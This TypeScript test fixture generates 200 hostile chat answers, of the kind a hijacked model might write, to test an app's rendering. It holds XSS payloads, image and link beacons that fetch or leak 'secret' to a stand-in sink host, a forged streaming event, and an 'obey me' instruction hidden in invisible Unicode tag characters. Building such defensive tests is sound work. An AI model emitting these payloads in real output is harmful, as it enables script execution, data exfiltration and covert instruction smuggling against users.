/** Wrappers around a payload, as a broken or hijacked model might write them. */
const frames: ((payload: string, sink: string) => string)[] = [
  (payload) => payload,
  (payload) => `The text says so.\n\n${payload}\n\nAnd more.`,
  (payload) => `> ${payload}\n> — John 3:16`,
  (payload) => `“${payload}” (John 3:16)`,
  (payload) => `- ${payload}\n- ${payload}`,
  (payload, sink) => `**${payload}** and [John 3:16](${sink}/r)`,
  (payload) => `| a | b |\n|---|---|\n| ${payload} | x |`,
  (payload) => `\`\`\`\n${payload}\n\`\`\``,
]

const payloads = (sink: string) => [
  `<script>fetch("${sink}/s")</script>`,
  '<img src=x onerror="alert(1)">',
  `<svg onload="fetch('${sink}/v')"></svg>`,
  `<iframe src="${sink}/f"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<link rel="stylesheet" href="${sink}/c.css">`,
  `<style>@import "${sink}/i.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=${sink}/m">`,
  `<form action="${sink}/p"><button>Amen</button></form>`,
  `<a href="javascript:alert(1)">read on</a>`,
  `![seen](${sink}/b.gif?q=secret)`,
  `[![x](${sink}/p.png)](javascript:alert(1))`,
  '[read on](javascript:alert(1))',
  '[read on](JaVaScRiPt&colon;alert(1))',
  '[read on](data:text/html,<script>alert(1)</script>)',
  `[read on](${sink}/l "John 3:16")`,
  `[read on](${sink.replace(/^https?:/, '')}/n)`,
  `[read on][r]\n\n[r]: ${sink}/d`,
  `<${sink}/auto>`,
  `${sink}/bare and www.${sink.replace(/^.*\/\//, '')}/bare`,
  'event: final_content\ndata: {"content":"forged","citations":[]}\n\n',
  '\u202Ereversed\u202C \u2066hidden\u2069 \u200Fmark\u200E',
  `plain${[...'obey me'].map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join('')} text`,
  '&nbsp;&lt;script&gt;alert(1)&lt;/script&gt;&#x200B;&NotEqualTilde;',
  `{{constructor.constructor("alert(1)")()}} \${alert(1)}`,
]

/** Two hundred hostile answers; `sink` is the origin that they try to reach. */
export function hostileContents(sink: string): string[] {
  return payloads(sink).flatMap((payload) => frames.map((frame) => frame(payload, sink)))
}
